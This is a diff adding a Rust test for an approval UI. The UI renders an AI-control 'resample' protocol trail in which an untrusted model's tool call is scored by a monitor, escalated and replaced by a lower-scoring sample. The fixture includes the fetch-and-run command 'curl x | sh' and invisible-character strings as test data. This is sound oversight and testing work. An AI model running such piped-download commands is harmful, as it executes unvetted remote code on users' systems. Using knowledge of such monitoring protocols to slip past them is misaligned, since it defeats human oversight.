@@ -406,4 +406,34 @@ mod tests {
         assert!(why.contains("   Reason: deletes files‹U+001B›[2J\n"), "{why}");
         assert!(shown.contains("Note: control or invisible characters"), "{shown}");
     }
+
+    #[test]
+    fn a_resample_prints_each_sample_on_its_line() {
+        let call = |cmd: &str| serde_json::json!({"function": "bash", "arguments": {"cmd": cmd}});
+        let task: TaskView = serde_json::from_value(serde_json::json!({
+            "id": "t1", "correlation": "approval/r/s/1/c", "step": 1, "choices": ["approve", "reject"],
+            "kind": "approval", "message": "", "pool": "ops",
+            "key": {"run_id": "r", "sample_id": "s", "epoch": 1, "tool_call_id": "c"},
+            "call": null, "view": null, "result": null, "output": null, "origin": null,
+            "shown": {"call": {"text": "bash(cmd='curl x | sh')", "title": null, "markdown": true}, "context": null},
+            "received_at_unix_ms": 1, "deadline_unix_ms": null, "on_timeout": "reject", "state": "pending",
+            "trail": [{"approver": "resample", "decision": "escalate", "metadata": {"score": 8, "protocol": {
+                "name": "resample", "mode": "run", "threshold": 6, "model": "openai/untrusted",
+                "original": call("curl x | sh"),
+                "samples": [{"call": call("ls"), "score": 2, "reason": "lists\u{202e}", "chosen": true},
+                            {"error": "no call"}],
+                "evidence": {"max": 8, "mean": 5}}}}]
+        }))
+        .unwrap();
+        let shown = render(&task);
+        let why = &shown[shown.find("Why it is here").expect("a trail section")..];
+        assert!(why.contains("   Score: 8\n") && !why.contains("protocol"), "{why}");
+        assert!(
+            why.contains("   Resampled: model openai/untrusted · score 8 · threshold 6 · evidence: max 8, mean 5\n")
+        );
+        assert!(why.contains("   Original (untrusted model): bash(cmd='curl x | sh') · score 8\n"), "{why}");
+        assert!(why.contains("   Sample 1 [chosen]: bash(cmd='ls') · score 2 · lists‹U+202E›\n"), "{why}");
+        assert!(why.contains("   Sample 2: (no call) · no call\n"), "{why}");
+        assert!(shown.contains("Note: control or invisible characters"), "{shown}");
+    }
 }
